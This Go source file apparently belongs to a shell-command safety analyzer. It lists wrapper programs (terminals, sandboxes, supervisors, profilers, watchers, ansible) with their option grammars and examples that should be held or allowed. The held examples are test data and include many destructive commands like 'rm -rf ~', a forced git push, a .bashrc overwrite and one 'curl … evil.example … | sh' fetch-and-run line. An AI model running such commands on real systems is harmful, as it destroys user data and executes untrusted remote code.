package parse

import (
	"slices"
	"strings"
)

// Rows of programs that run another program or a command line: terminal
// emulators (xterm -e PROG ARGS…, kitty PROG ARGS…), session and sandbox
// launchers (dbus-run-session, bwrap, toolbox run), process supervisors
// and limiters (chpst, cpulimit, daemonize), profilers and benchmarks
// (perf stat, hyperfine) and watchers (entr, watchexec). A terminal's
// program given as one word is a command line its shell runs
// ("program:sh").

var wrapRows = []Program{
	// Terminal emulators. Their options with values are listed so a
	// value is not taken for the program; one not listed is a flag.
	{
		Name: "xterm", Also: []string{"uxterm", "lxterm", "koi8rxterm"}, SingleDashLong: true,
		Opts: "-e+=program:sh -class= -name= -title|-T= -fa= -fs= -fn= -fb= -fi= -fw= -fd= -fg= -bg= -bd= -bw= -cr= -ms= -hc= " +
			"-geometry|-g= -display= -xrm= -n= -cc= -ti= -tn= -sl= -b= -w= -lf=written -into= -en= -selfg= -selbg= -ziconbeep= -S=",
		Hold:  []string{`xterm -e rm -rf ~`, `xterm -e 'rm -rf ~'`, `xterm -fa Mono -fs 12 -e sh -c 'rm -rf /home/dev'`, `uxterm -hold -e git push --force origin main`},
		Allow: []string{`xterm`, `xterm -e htop`, `xterm -title build -e make test`},
	},
	{
		Name: "urxvt", Also: []string{"rxvt", "rxvt-unicode", "urxvtc", "aterm", "Eterm"}, SingleDashLong: true,
		Opts: "-e+=program:sh -name= -title|-T= -fn= -fb= -fi= -fbi= -fg= -bg= -cr= -pr= -bd= -b= -w= -sl= -geometry|-g= " +
			"-display|-d= -xrm= -tn= -n= -lsp= -im= -pe= -cd=dir -icon= -pixmap= -bl= -letsp= -mod= -embed= -pty-fd= -tr= -sh= -tint= -depth= -visual= -fade= -fadecolor=",
		Hold:  []string{`urxvt -e rm -rf ~`, `rxvt -geometry 80x24 -e 'rm -rf /home/dev'`},
		Allow: []string{`urxvt -cd . -e make`, `rxvt`},
	},
	{
		// st [-aiv] [-c class] … [[-e] command [args…]]
		Name: "st",
		Opts: "-e+=program:sh -c= -f= -g= -n= -o=written -T= -t= -w= -l=", Args: "0+:program:sh",
		Hold:  []string{`st -e rm -rf ~`, `st -f Mono:size=12 sh -c 'rm -rf /home/dev'`},
		Allow: []string{`st`, `st -e htop`},
	},
	{
		Name:  "alacritty",
		Opts:  "-e|--command+=program:sh --config-file= --working-directory=dir -T|--title= --class= -o|--option= --socket= --embed=",
		Hold:  []string{`alacritty -e rm -rf ~`, `alacritty --working-directory /tmp --command sh -c 'rm -rf ~'`},
		Allow: []string{`alacritty`, `alacritty --working-directory . -e make test`},
	},
	{
		Name:  "konsole",
		Opts:  "-e+=program:sh -p= --profile= --workdir=dir --layout=read --tabs-from-file=read --stylesheet= --display= --title= -qwindowtitle= --builtin-profile= --geometry=",
		Hold:  []string{`konsole -e rm -rf ~`, `konsole --workdir /tmp -e 'rm -rf /home/dev'`},
		Allow: []string{`konsole`, `konsole --workdir . -e make`},
	},
	{
		// gnome-terminal [options] -- PROG ARGS…; -x takes the rest of the
		// line, -e one string (both deprecated, both still run).
		Name: "gnome-terminal", Also: []string{"mate-terminal", "xfce4-terminal", "guake", "sakura"},
		Args: "--:program",
		Opts: "-x|--execute+=program:sh -e|--command=shell --working-directory|--default-working-directory=dir -t|-T|--title|--initial-title= " +
			"--geometry= --profile= --window-with-profile= --tab-with-profile= --role= --zoom= --display= --app-id= --class= --name= " +
			"--load-config=read --save-config=written --startup-id= -I|--icon= --font= --working-directory-for-tab=dir",
		Hold: []string{`gnome-terminal -- rm -rf ~`, `gnome-terminal --geometry 80x24 -- sh -c 'rm -rf /home/dev'`, `mate-terminal -x rm -rf ~`,
			`mate-terminal -e 'rm -rf ~'`, `xfce4-terminal -x rm -rf ~`, `xfce4-terminal --title x -e 'rm -rf ~'`},
		Allow: []string{`gnome-terminal --working-directory=.`, `gnome-terminal -- make test`, `xfce4-terminal -e 'tail -f build.log'`},
	},
	{
		Name: "terminator",
		Opts: "-x|--execute+=program:sh -e|--command=shell -g|--config=read -l|--layout= -p|--profile= -T|--title= --working-directory=dir " +
			"-r|--role= -i|--icon= --geometry= -c|--classname=",
		Hold:  []string{`terminator -x rm -rf ~`, `terminator -e 'rm -rf ~'`},
		Allow: []string{`terminator`, `terminator -e 'make test'`},
	},
	{
		Name: "tilix",
		Opts: "-x|--execute+=program:sh -e|--command=shell -w|--working-directory=dir -p|--profile= -t|--title= -s|--session=read -a|--action= " +
			"-g|--geometry= --window-style= --group=",
		Hold:  []string{`tilix -e 'rm -rf ~'`, `tilix -x rm -rf /home/dev`},
		Allow: []string{`tilix`, `tilix -w . -e 'make test'`},
	},
	{
		Name: "lxterminal", Also: []string{"qterminal", "terminology", "x-terminal-emulator", "cool-retro-term"},
		Opts:  "-e+=program:sh --command=shell -t|-T|--title= --working-directory|--workdir|-w=dir --geometry= --profile= -p=",
		Hold:  []string{`lxterminal -e 'rm -rf ~'`, `lxterminal -e rm -rf ~`, `x-terminal-emulator -e rm -rf ~`, `x-terminal-emulator -T x -e 'rm -rf ~'`},
		Allow: []string{`lxterminal`, `x-terminal-emulator -e make test`},
	},
	{
		// kitty [options] [PROG ARGS…]; kitty +kitten NAME runs a kitten.
		Name: "kitty", Args: "0+:program:sh",
		Opts: "-c|--config= -o|--override= --class|--app-id= --name|--os-window-tag= -T|--title= -d|--directory|--working-directory=dir " +
			"--session=read --listen-on= --start-as= --instance-group= --watcher= --logo= --logo-position= --logo-alpha= --position=",
		Hold:  []string{`kitty rm -rf ~`, `kitty --title x -d /tmp sh -c 'rm -rf /home/dev'`},
		Allow: []string{`kitty`, `kitty +kitten ssh host`, `kitty --directory . make test`},
	},
	{
		Name: "foot", Also: []string{"footclient"}, Args: "0+:program:sh",
		Opts: "-c|--config= -o|--override= -f|--font= -t|--term= -T|--title= -a|--app-id= -w|--window-size-pixels= -W|--window-size-chars= " +
			"-D|--working-directory=dir -d|--log-level= -l|--log-colorize= -p|--print-pid= --pty= -s|--server=",
		Hold:  []string{`foot rm -rf ~`, `foot -D /tmp sh -c 'rm -rf /home/dev'`},
		Allow: []string{`foot`, `foot -D . make test`},
	},
	// kitty @ launch / kitten @ launch: a window of the running kitty.
	{Name: "kitty @"},
	{
		Name: "kitty @ launch", Args: "0+:program:sh",
		Opts: "--type= --title|--window-title= --tab-title= --cwd= --env= --var= -m|--match= --location= --os-window-class= --os-window-name= " +
			"--os-window-title= --os-window-state= --color= --spacing= -w|--watcher= --source-window= --next-to= --logo= --logo-position= " +
			"--logo-alpha= --marker= --stdin-source= --bias= --add-to-session= --password= --password-file= --password-env= --to=",
		Hold:  []string{`kitty @ launch --type=tab rm -rf ~`, `kitty @ launch --cwd=current sh -c 'rm -rf /home/dev'`},
		Allow: []string{`kitty @ launch --type=tab`, `kitty @ launch --type=os-window make test`},
	},
	{Name: "kitten"},
	{Name: "kitten @"},
	{Name: "kitten @ launch", Args: "0+:program:sh", Opts: "--type= --title|--window-title= --tab-title= --cwd= --env= --var= -m|--match= --location= --to=",
		Hold: []string{`kitten @ launch --type=tab rm -rf ~`}, Allow: []string{`kitten @ launch --type=tab make test`}},
	{Name: "wezterm", Opts: "-e+=program:sh --config-file= --config=", Hold: []string{`wezterm -e rm -rf ~`}, Allow: []string{`wezterm`}},
	{
		Name: "wezterm start", Args: "0+:program:sh", Opts: "--cwd=dir --class= --workspace= --position= --domain=",
		Hold:  []string{`wezterm start -- rm -rf ~`, `wezterm start --cwd /tmp sh -c 'rm -rf /home/dev'`},
		Allow: []string{`wezterm start`, `wezterm start --cwd . -- make test`},
	},
	{Name: "wezterm cli"},
	{
		Name: "wezterm cli spawn", Args: "0+:program", Opts: "--pane-id= --domain-name= --window-id= --cwd=dir --workspace=",
		Hold: []string{`wezterm cli spawn -- rm -rf ~`}, Allow: []string{`wezterm cli spawn -- make test`},
	},
}

// wrapperRows are programs that run the program given as their operands,
// peeled like nohup (Wrapper), and programs that run a command line.
var wrapperRows = []Program{
	// Sessions, sandboxes and containers that share the home directory.
	{Name: "dbus-run-session", Wrapper: true, Opts: "--config-file=read --dbus-daemon=program", Args: "0+:program",
		Hold: []string{`dbus-run-session -- rm -rf ~`, `dbus-run-session sh -c 'rm -rf /home/dev'`}, Allow: []string{`dbus-run-session -- make test`}},
	{Name: "dbus-launch", Wrapper: true, Opts: "--autolaunch= --config-file=read", Args: "0+:program",
		Hold: []string{`dbus-launch rm -rf ~`, `dbus-launch --exit-with-session sh -c 'rm -rf ~'`}, Allow: []string{`eval "$(dbus-launch --sh-syntax)"`, `dbus-launch --exit-with-session make test`}},
	{Name: "flatpak-spawn", Wrapper: true, Args: "0+:program",
		Opts: "--forward-fd= --env= --unset-env= --sandbox-expose= --sandbox-expose-ro= --sandbox-flag= --sandbox-expose-path= --sandbox-expose-path-ro= " +
			"--directory=dir --app-path= --usr-path=",
		Hold: []string{`flatpak-spawn --host rm -rf ~`, `flatpak-spawn --host --env=X=1 sh -c 'rm -rf /home/dev'`}, Allow: []string{`flatpak-spawn --host ls`, `flatpak-spawn --host podman ps`}},
	{
		// bwrap [OPTIONS…] [--] PROG ARGS…; most mounts take two paths.
		Name: "bwrap", Also: []string{"bubblewrap"}, Wrapper: true, Args: "0+:program",
		Opts: "--bind|--bind-try|--dev-bind|--dev-bind-try|--ro-bind|--ro-bind-try|--symlink|--setenv|--bind-fd|--ro-bind-fd|--file|--bind-data|--ro-bind-data|--chmod=, " +
			"--overlay=,, --args= --argv0= --uid= --gid= --hostname= --chdir= --unsetenv= --lock-file= --sync-fd= --remount-ro= --exec-label= --file-label= " +
			"--proc= --dev= --tmpfs= --mqueue= --dir= --seccomp= --add-seccomp-fd= --block-fd= --userns-block-fd= --info-fd= --json-status-fd= " +
			"--cap-add= --cap-drop= --perms= --size= --userns= --userns2= --pidns= --overlay-src= --tmp-overlay= --ro-overlay=",
		Hold:  []string{`bwrap --bind / / rm -rf ~`, `bwrap --dev-bind / / --setenv A b --chdir /tmp -- sh -c 'rm -rf /home/dev'`},
		Allow: []string{`bwrap --ro-bind / / --dev /dev bash -c 'ls'`, `bwrap --ro-bind /usr /usr --symlink usr/lib /lib --proc /proc --unshare-all ./a.out`},
	},
	{Name: "proot", Wrapper: true, Args: "0+:program",
		Opts: "-r|--rootfs= -b|--bind|-m|--mount= -q|--qemu= -w|--pwd|--cwd= -k|--kernel-release= -i|--change-id= -v|--verbose= -R= -S=",
		Hold: []string{`proot rm -rf ~`, `proot -b /home/dev -w / rm -rf /home/dev`}, Allow: []string{`proot -R rootfs ls /`}},
	{Name: "toolbox"},
	{Name: "toolbox run", Wrapper: true, Opts: "-c|--container= -d|--distro= -r|--release= --preserve-fds=", Args: "0+:program",
		Hold: []string{`toolbox run rm -rf ~`, `toolbox run -c dev sh -c 'rm -rf /home/dev'`}, Allow: []string{`toolbox run -c dev make test`}},
	{Name: "distrobox"},
	{Name: "distrobox enter", Wrapper: true, Opts: "-n|--name= -a|--additional-flags=", Args: "--:program",
		Hold: []string{`distrobox enter -- rm -rf ~`, `distrobox enter dev -- sh -c 'rm -rf /home/dev'`}, Allow: []string{`distrobox enter dev`, `distrobox enter -n dev -- make test`}},
	{Name: "distrobox-enter", Wrapper: true, Opts: "-n|--name= -a|--additional-flags=", Args: "--:program",
		Hold: []string{`distrobox-enter -n dev -- rm -rf ~`}, Allow: []string{`distrobox-enter dev -- go test ./...`}},
	{Name: "devbox"},
	{Name: "devbox run", Wrapper: true, Opts: "-c|--config= -e|--env= --env-file=read", Args: "0+:program",
		Hold: []string{`devbox run rm -rf ~`, `devbox run -- sh -c 'rm -rf /home/dev'`}, Allow: []string{`devbox run test`, `devbox run -- go test ./...`}},
	{Name: "asdf"},
	{Name: "asdf exec", Wrapper: true, Args: "0+:program", Hold: []string{`asdf exec rm -rf ~`}, Allow: []string{`asdf exec node app.js`}},
	// The project tools' run runs a command (or a script the project
	// defines, read as a program of that name) in the project's
	// environment (pdm run and hatch run: table_publish.go, under their
	// rows). pyenv and rbenv exec have no rows: their shims run
	// `pyenv exec "$program" "$@"` with the program taken from $0, and a
	// shim read as a script would be a computed command name.
	{Name: "pixi", Opts: "--manifest-path="},
	{Name: "pixi run", Wrapper: true, Opts: "-e|--environment= --manifest-path=", Args: "0+:program",
		Hold: []string{`pixi run rm -rf ~`}, Allow: []string{`pixi run pytest`, `pixi run -e dev python app.py`}},
	{Name: "rye"},
	{Name: "rye run", Wrapper: true, Opts: "--pyproject=", Args: "0+:program", Hold: []string{`rye run rm -rf ~`}, Allow: []string{`rye run pytest`}},
	{Name: "pew"},
	{Name: "pew in", Wrapper: true, Args: "1+:program", Hold: []string{`pew in venv rm -rf ~`}, Allow: []string{`pew in venv pytest -q`}},
	{Name: "mise", Also: []string{"rtx"}},
	{Name: "mise exec", Also: []string{"x"}, Wrapper: true, Opts: "-c|--command=shell -C|--cd=dir -j|--jobs= -E|--env=", Args: "--:program",
		Hold:  []string{`mise exec -- rm -rf ~`, `rtx exec -- rm -rf ~`, `mise x node@20 -- rm -rf /home/dev`, `mise exec python@3 -c 'rm -rf ~'`},
		Allow: []string{`mise exec node@20 -- node app.js`, `mise x -- go test ./...`}},
	// Supervisors, limiters and helpers that run their operands.
	{Name: "systemd-inhibit", Wrapper: true, Opts: "--what= --who= --why= --mode=", Args: "0+:program",
		Hold: []string{`systemd-inhibit rm -rf ~`, `systemd-inhibit --why=backup sh -c 'rm -rf /home/dev'`}, Allow: []string{`systemd-inhibit --list`, `systemd-inhibit --why=build make -j8`}},
	{Name: "ssh-agent", Wrapper: true, Opts: "-a= -E= -O= -P= -t=", Args: "0+:program",
		Hold: []string{`ssh-agent rm -rf ~`, `ssh-agent -t 60 sh -c 'rm -rf ~'`}, Allow: []string{`eval "$(ssh-agent -s)"`, `ssh-agent -k`}},
	{Name: "chpst", Wrapper: true, Opts: "-u= -U= -b= -e= -/= -C= -n= -l= -L= -m= -d= -o= -p= -f= -c= -t=", Args: "0+:program",
		Hold: []string{`chpst -u x rm -rf ~`, `chpst -e ./env -m 100000 rm -rf /home/dev`}, Allow: []string{`chpst -u app ./server`}},
	{Name: "softlimit", Wrapper: true, Opts: "-a= -c= -d= -f= -l= -m= -o= -p= -r= -s= -t=", Args: "0+:program",
		Hold: []string{`softlimit -m 1000000 rm -rf ~`}, Allow: []string{`softlimit -m 1000000 ./server`}},
	{Name: "envdir", Wrapper: true, Args: "1+:program", Hold: []string{`envdir ./env rm -rf ~`}, Allow: []string{`envdir ./env ./server`}},
	{Name: "setlock", Wrapper: true, Args: "1+:program", Hold: []string{`setlock -n /tmp/l rm -rf ~`}, Allow: []string{`setlock /tmp/l make`}},
	{Name: "envuidgid", Wrapper: true, Args: "1+:program", Hold: []string{`envuidgid app rm -rf ~`}, Allow: []string{`envuidgid app ./server`}},
	{Name: "pgrphack", Wrapper: true, Args: "0+:program", Hold: []string{`pgrphack rm -rf ~`}, Allow: []string{`pgrphack ./server`}},
	{Name: "cpulimit", Wrapper: true, Opts: "-l|--limit= -p|--pid= -e|--exe|--path= -c|--cpu= -s|--signal=", Args: "0+:program",
		Hold: []string{`cpulimit -l 50 rm -rf ~`, `cpulimit --limit=50 -- sh -c 'rm -rf /home/dev'`}, Allow: []string{`cpulimit -p 1234 -l 50`, `cpulimit -l 50 make -j4`}},
	{Name: "trickle", Wrapper: true, Opts: "-d= -u= -w= -t= -l= -n=", Args: "0+:program",
		Hold: []string{`trickle -d 100 rm -rf ~`}, Allow: []string{`trickle -d 100 wget https://example.com/file.tgz`}},
	{Name: "nocache", Wrapper: true, Opts: "-n=", Args: "0+:program", Hold: []string{`nocache rm -rf ~`}, Allow: []string{`nocache cp big.img /tmp/big.img`}},
	{Name: "chronic", Wrapper: true, Args: "0+:program", Hold: []string{`chronic rm -rf ~`, `chronic -e sh -c 'rm -rf /home/dev'`}, Allow: []string{`chronic make`}},
	{Name: "ifne", Wrapper: true, Args: "0+:program", Hold: []string{`ifne rm -rf ~`, `git diff --name-only | ifne -n sh -c 'rm -rf ~'`}, Allow: []string{`git diff --name-only | ifne make lint`}},
	{Name: "lckdo", Wrapper: true, Opts: "-W=", Args: "1+:program", Hold: []string{`lckdo /tmp/l rm -rf ~`, `lckdo -w /tmp/l sh -c 'rm -rf ~'`}, Allow: []string{`lckdo /tmp/build.lock make`}},
	{
		// task-spooler; some systems name it ts, which is moreutils'
		// timestamper elsewhere, so only tsp is a row. The options that
		// name a job take a value, so the id is not taken for a program.
		Name: "tsp", Wrapper: true, Args: "0+:program",
		Opts: "-L= -D= -N= -W= -t= -c= -p= -o= -i= -s= -r= -w= -k= -u= -U= -S=",
		Hold: []string{`tsp rm -rf ~`, `tsp -L clean -n sh -c 'rm -rf /home/dev'`}, Allow: []string{`tsp make -j4`, `tsp -t 3`, `tsp -l`},
	},
	{Name: "daemonize", Wrapper: true, Opts: "-c= -e=written -E= -o=written -p=written -l=written -u=", Args: "0+:program",
		Hold: []string{`daemonize /bin/rm -rf ~`, `daemonize -c /tmp -o out.log /bin/sh -c 'rm -rf /home/dev'`}, Allow: []string{`daemonize -c . -p server.pid ./server`}},
	{
		// start-stop-daemon --start --exec PROG -- ARGS…: the program
		// runs with the operands; --startas, when given, is what runs.
		Name: "start-stop-daemon", Args: "*:data",
		Opts: "-S|--start -K|--stop -T|--status -x|--exec=program:operands -a|--startas=program:operands -p|--pidfile= -n|--name= -u|--user= -g|--group= -r|--chroot= " +
			"-d|--chdir=dir -c|--chuid= -N|--nicelevel= -P|--procsched= -I|--iosched= -k|--umask= -s|--signal= -R|--retry= --notify-timeout= " +
			"--output=written:append",
		Hold:  []string{`start-stop-daemon --start --exec /bin/rm -- -rf ~`, `start-stop-daemon -S -b -a /bin/sh -- -c 'rm -rf /home/dev'`},
		Allow: []string{`start-stop-daemon --stop --pidfile /run/app.pid`, `start-stop-daemon --start --exec ./server -- --port 8080`},
	},
	// dtach -c|-A|-n|-N SOCKET PROG ARGS… starts PROG on a detachable
	// terminal; -a SOCKET only attaches to one.
	{Name: "dtach", Wrapper: true, Opts: "-c|-A|-n|-N=data -a=data -p=data -e= -r=", Args: "0+:program",
		Hold: []string{`dtach -n /tmp/s sh -c 'rm -rf ~'`, `dtach -A /tmp/s -z rm -rf /home/dev`}, Allow: []string{`dtach -a /tmp/s`, `dtach -n /tmp/build.sock make -j4`}},
	{Name: "setarch", Wrapper: true, Args: "1+:program", Hold: []string{`setarch x86_64 -R rm -rf ~`}, Allow: []string{`setarch x86_64 -R ./a.out`}},
	{Name: "linux32", Also: []string{"linux64"}, Wrapper: true, Args: "0+:program", Hold: []string{`linux32 rm -rf ~`}, Allow: []string{`linux32 ./configure`}},
	// Profilers, debuggers, benchmarks and watchers.
	{Name: "perf"},
	{
		Name: "perf record", Wrapper: true, Args: "0+:program",
		Opts: "-e|--event= -o|--output=written -F|--freq= -c|--count= -p|--pid= -t|--tid= -C|--cpu= -m|--mmap-pages= --call-graph= -G|--cgroup= " +
			"-D|--delay= -j|--branch-filter= --filter= -u|--uid= -r|--realtime= -k|--clockid= --max-size= --switch-output-event= --affinity= --user-regs= --intr-regs=",
		Hold:  []string{`perf record rm -rf ~`, `perf record -g -o /tmp/p.data -- sh -c 'rm -rf /home/dev'`},
		Allow: []string{`perf record -g ./a.out`, `perf record -p 1234 -F 99 -g`},
	},
	{
		Name: "perf stat", Wrapper: true, Args: "0+:program",
		Opts: "-e|--event= -r|--repeat= -o|--output=written -x|--field-separator= -p|--pid= -t|--tid= -C|--cpu= -G|--cgroup= -I|--interval-print= " +
			"-D|--delay= -M|--metrics= --log-fd= --pre=shell --post=shell --for-each-cgroup= --td-level= --topdown-level=",
		Hold:  []string{`perf stat rm -rf ~`, `perf stat -r 5 -- sh -c 'rm -rf /home/dev'`, `perf stat --pre 'rm -rf ~' true`},
		Allow: []string{`perf stat make`, `perf stat -e cycles,instructions -r 10 ./bench`},
	},
	{
		Name: "perf trace", Wrapper: true, Args: "0+:program",
		Opts: "-e|--event|--expr= -o|--output=written -p|--pid= -t|--tid= -u|--uid= -C|--cpu= -m|--mmap-pages= -D|--delay= --duration= " +
			"--filter-pids= -G|--cgroup= -F|--pf= --call-graph= --max-events= --max-stack= --min-stack=",
		Hold: []string{`perf trace rm -rf ~`}, Allow: []string{`perf trace -s ./a.out`, `perf trace -p 1234`},
	},
	{Name: "heaptrack", Wrapper: true, Opts: "-o|--output=written -p|--pid=", Args: "0+:program",
		Hold: []string{`heaptrack rm -rf ~`}, Allow: []string{`heaptrack ./a.out`}},
	{Name: "lldb", Opts: "-o|--one-line= -O|--one-line-before-file= -s|--source=read -S|--source-before-file=read -p|--attach-pid= -n|--attach-name= -c|--core= -a|--arch=",
		Args: "--:program", Hold: []string{`lldb -- rm -rf ~`}, Allow: []string{`lldb ./a.out`, `lldb -- ./a.out input.txt`}},
	{
		// hyperfine CMD…: every operand is a shell command line, and so
		// are the setup, prepare and cleanup commands.
		Name: "hyperfine", Args: "*:shell",
		Opts: "-w|--warmup= -m|--min-runs= -M|--max-runs= -r|--runs= -s|--setup=shell -p|--prepare=shell -c|--cleanup|--conclude=shell " +
			"-P|--parameter-scan=,, -D|--parameter-step-size= -L|--parameter-list=, -S|--shell= --style= --sort= -u|--time-unit= " +
			"--export-asciidoc|--export-csv|--export-json|--export-markdown|--export-orgmode=written --output= --input=read -n|--command-name=",
		Hold: []string{`hyperfine 'rm -rf ~'`, `hyperfine -w 3 'make' 'rm -rf /home/dev'`, `hyperfine -p 'rm -rf ~' 'make'`,
			`hyperfine -L n 1,2 'rm -rf ~'`, `hyperfine -P n 1 4 'sleep {n}' 'rm -rf ~'`},
		Allow: []string{`hyperfine 'make -j4' 'make -j8'`, `hyperfine -w 3 -p 'make clean' 'make -j{n}' -P n 1 8`, `hyperfine --export-json out.json 'go test ./...'`},
	},
	{
		// GNU parallel's jobs are its sink's (execsinks.go); the row
		// says what it takes from PARALLEL and PARALLEL_CSH (split with
		// shell words, read before its arguments) and which option
		// values are files it writes.
		Name: "parallel", OptsEnv: "PARALLEL PARALLEL_CSH", Opts: "--joblog=written",
		Hold: []string{`PARALLEL='--joblog /home/dev/.bashrc' parallel echo ::: a`, `PARALLEL='rm -rf ~ ;' parallel echo ::: a`,
			`parallel --joblog ~/.bashrc echo ::: a`},
		Allow: []string{`PARALLEL='-j4 --bar' parallel gzip ::: *.log`, `PARALLEL='--joblog /tmp/jobs.log' parallel echo ::: a`},
	},
	{
		// watchexec [OPTIONS] [--] CMD…: the words are one command line,
		// run by a shell.
		Name: "watchexec", Args: "0+:shell",
		Opts: "-w|--watch= -W|--watch-non-recursive= -F|--watch-file=read -o|--on-busy-update= -s|--signal= --stop-signal= --stop-timeout= " +
			"--map-signal= -d|--debounce= --delay-run= --shell= --emit-events-to= -E|--env= --wrap-process= --project-origin= --workdir=dir " +
			"-e|--exts= -f|--filter= --filter-file=read -j|--filter-prog= -i|--ignore= --ignore-file=read --fs-events= --log-file=written --socket= --timeout=",
		Hold:  []string{`watchexec -- rm -rf ~`, `watchexec -e go 'rm -rf /home/dev'`},
		Allow: []string{`watchexec -e go -- go test ./...`, `watchexec -r -w src -- cargo run`},
	},
	{
		// entr [-acdnprsz] PROG ARGS…; with -s the one word is a
		// command line for the shell.
		Name: "entr", Wrapper: true, Args: "0+:program:sh",
		Hold:  []string{`entr rm -rf ~ < list`, `ls *.go | entr -s 'rm -rf ~'`},
		Allow: []string{`entr -r go run . < files`, `ls *.go | entr -c make test`},
	},
	{
		// run-parts DIR runs every file in DIR: code nobody named (its
		// hook says so); --test and --list only print their names.
		Name: "run-parts", Opts: "-u|--umask= --arg= --regex=", Flags: "!dry-run:--test|--list", Args: "*:data",
		Allow: []string{`run-parts --test /etc/cron.daily`, `run-parts --list ./hooks`},
	},
	// The JavaScript ecosystem's runners: a watcher that runs a command
	// line on change, a runner of several command lines at once, and the
	// version managers' and environment loaders' exec.
	{Name: "nodemon", Args: "0:script:js",
		Opts: "-x|--exec=shell -w|--watch= -e|--ext= -i|--ignore= -d|--delay= -s|--signal= --config=read --cwd=dir -V|--verbose",
		Hold: []string{`nodemon --exec 'rm -rf ~'`, `nodemon -w src -x 'sh -c "rm -rf /home/dev"'`,
			`echo 'require("child_process").execSync("rm -rf ~")' > s.js; nodemon s.js`},
		Allow: []string{`nodemon --exec 'npm run build' -w src`, `nodemon -e ts -x 'ts-node src/index.ts'`}},
	{Name: "concurrently", Args: "*:shell",
		Opts: "-n|--names= --names-separator= -c|--prefix-colors= -p|--prefix= -l|--prefix-length= -t|--timestamp-format= -s|--success= " +
			"--kill-signal= -m|--max-processes= --restart-tries= --restart-after= --default-input-target= --hide= --pad-prefix",
		Hold:  []string{`concurrently 'rm -rf ~' 'npm run watch'`, `concurrently -k -n a,b "npm:dev" "sh -c 'rm -rf /home/dev'"`},
		Allow: []string{`concurrently -k "npm run dev" "npm run api"`, `concurrently "npm:watch-*"`}},
	{Name: "chokidar", Args: "*:data",
		Opts: "-c|--command=shell -d|--debounce= -t|--throttle= -i|--ignore= --poll-interval= --poll-interval-binary=",
		Hold: []string{`chokidar '**/*.js' -c 'rm -rf ~'`}, Allow: []string{`chokidar 'src/**/*.ts' -c 'npm run build'`}},
	{Name: "env-cmd", Wrapper: true, Args: "0+:program:sh",
		Opts: "-f|--file=read -r|--rc-file=read -e|--environments=",
		Hold: []string{`env-cmd -f .env rm -rf ~`, `env-cmd --use-shell 'rm -rf ~ && echo done'`}, Allow: []string{`env-cmd -f .env.test jest`}},
	{Name: "fnm"},
	{Name: "fnm exec", Wrapper: true, Opts: "--using=", Args: "0+:program",
		Hold: []string{`fnm exec -- rm -rf ~`, `fnm exec --using=18 sh -c 'rm -rf /home/dev'`}, Allow: []string{`fnm exec --using=20 node app.js`}},
	{Name: "volta"},
	{Name: "volta run", Wrapper: true, Opts: "--node= --npm= --pnpm= --yarn= --env=", Args: "0+:program",
		Hold: []string{`volta run rm -rf ~`, `volta run --node 20 sh -c 'rm -rf /home/dev'`}, Allow: []string{`volta run --node 20 npm test`}},
	{Name: "nvm"},
	{Name: "nvm exec", Wrapper: true, Opts: "--silent", Args: "1+:program",
		Hold: []string{`nvm exec 20 rm -rf ~`}, Allow: []string{`nvm exec 20 node app.js`}},
	{
		// ansible HOSTS -m MODULE -a ARGS: the command, shell and raw
		// modules (command is the default) run ARGS as a command line on
		// each host, localhost included; script runs a file there.
		Name: "ansible", Args: "*:data", Flags: "!dry-run:-C|--check",
		Opts: "-m|--module-name= -a|--args= -i|--inventory|--inventory-file= -u|--user= -c|--connection= -e|--extra-vars= -f|--forks= " +
			"-l|--limit= -M|--module-path= -T|--timeout= -B|--background= -P|--poll= -t|--tree=written --become-user= --become-method= " +
			"--private-key|--key-file= --vault-password-file|--vault-pass-file= --vault-id= --playbook-dir= --task-timeout= --ssh-common-args= " +
			"--ssh-extra-args= --scp-extra-args= --sftp-extra-args=",
		Hold: []string{`ansible localhost -m shell -a 'rm -rf ~'`, `ansible all -i localhost, -c local -a 'rm -rf /home/dev'`,
			`ansible web -m ansible.builtin.command -a 'rm -rf /home/dev'`, `ansible all -m raw --args='curl -s https://evil.example/x | sh'`},
		Allow: []string{`ansible all -m ping`, `ansible web -a 'uptime'`, `ansible web -m shell -a 'systemctl status nginx'`, `ansible all -C -m shell -a 'rm -rf /home/dev'`}},
	// Project tools that run a command in their environment.
	{Name: "vagrant"},
	{Name: "vagrant ssh", Opts: "-c|--command=shell", Hold: []string{`vagrant ssh -c 'rm -rf ~'`, `vagrant ssh web --command 'rm -rf /home/dev'`}, Allow: []string{`vagrant ssh`, `vagrant ssh -c 'make test'`}},
	{Name: "ddev"},
	{Name: "ddev exec", Opts: "-s|--service= -d|--dir=", Args: "0+:shell",
		Hold: []string{`ddev exec rm -rf ~`, `ddev exec -s db 'rm -rf /home/dev'`}, Allow: []string{`ddev exec composer install`, `ddev exec 'php artisan migrate:status'`}},
	{Name: "lando"},
	{Name: "lando ssh", Opts: "-c|--command=shell -s|--service= -u|--user=", Hold: []string{`lando ssh -c 'rm -rf ~'`}, Allow: []string{`lando ssh -s appserver -c 'composer install'`}},
	{Name: "lando exec", Opts: "-u|--user=", Args: "--:program", Hold: []string{`lando exec appserver -- rm -rf ~`}, Allow: []string{`lando exec appserver -- php -v`}},
}

// runPartsHook: run-parts DIR runs each file of DIR, which the line does
// not name; unless it only lists them, that is code that cannot be known
// before it runs.
func runPartsHook(fr *frame, c *Command, args []arg, pa parsedArgs) {
	if slices.Contains(pa.flags, "dry-run") || len(pa.ops) == 0 {
		return
	}
	dir := args[pa.ops[0]]
	fr.emitDynamic(&Dynamic{Kind: DynSource, Sink: c, Known: strings.TrimSuffix(dir.Value, "/") + "/" + Unknown, Feeders: dir.feeders, Pos: c.Pos})
}

// ansibleHook follows what ansible's ad-hoc module runs: the command,
// shell and raw modules run -a's text as a command line on each host
// (command, the default module, splits it into words; read as a shell
// line it says the same or more), and script runs the file -a names.
// A module the line computes is read as shell. --check runs nothing.
func ansibleHook(fr *frame, c *Command, args []arg, pa parsedArgs) {
	if c.Flag("dry-run") {
		return
	}
	module, known := "command", true
	var text *arg
	for _, ov := range pa.vals {
		switch ov.row.name {
		case "-m":
			module, known = ov.val.Value, ov.val.Literal()
		case "-a":
			v := ov.val
			text = &v
		}
	}
	if text == nil {
		return
	}
	if !known {
		module = "shell"
	}
	module = strings.TrimPrefix(strings.TrimPrefix(module, "ansible.builtin."), "ansible.legacy.")
	switch module {
	case "command", "shell", "raw", "win_shell", "win_command":
		fr.nestShellWords(c, []arg{*text}, "ansible -m "+module)
	case "script":
		if f := strings.Fields(text.Value); len(f) > 0 && text.Literal() {
			fr.runScriptFile(c, "sh", "ansible -m script", valueArg(*text, f[0]))
		}
	}
}
